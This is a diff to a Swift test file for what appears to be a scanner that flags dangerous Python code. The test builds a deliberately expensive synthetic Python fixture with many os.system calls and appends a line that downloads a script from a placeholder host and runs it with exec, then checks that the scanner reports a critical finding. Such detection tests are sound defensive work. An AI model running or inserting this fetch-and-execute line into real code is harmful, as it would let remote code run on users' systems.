@@ -9,13 +9,15 @@ import Testing
   private static func expensive(calls: Int) -> String {
     let body = (2..<60).map { "    v\($0) = a + b + str(\($0)) + v\($0 - 1) + v\($0 - 2)\n" }
     let uses = (0..<calls).map { "os.system(mix('echo \($0)', 'x\($0)'))\n" }
-    return "import os, requests\ndef mix(a, b):\n    v0 = v1 = a\n" + body.joined()
-      + "    return v59\n" + uses.joined()
+    let sums = (0..<8).map { "one(a + '\($0)', b)" }
+    return "import os, requests\ndef one(a, b):\n    v0 = v1 = a\n" + body.joined()
+      + "    return v59\ndef mix(a, b):\n    return " + sums.joined(separator: " + ") + "\n"
+      + uses.joined()
   }
 
   @Test func `a download behind expensive code is found, and the bound is said`() throws {
     let text =
-      Self.expensive(calls: 400)
+      Self.expensive(calls: 200)
       + "exec(requests.get('https://models.example.org/x.py').text)\n"
     #expect(try fetchFindings(text).contains { $0.severity == .critical })
     let damage = UnparsedPython().findings(in: try pythonSubject(text))
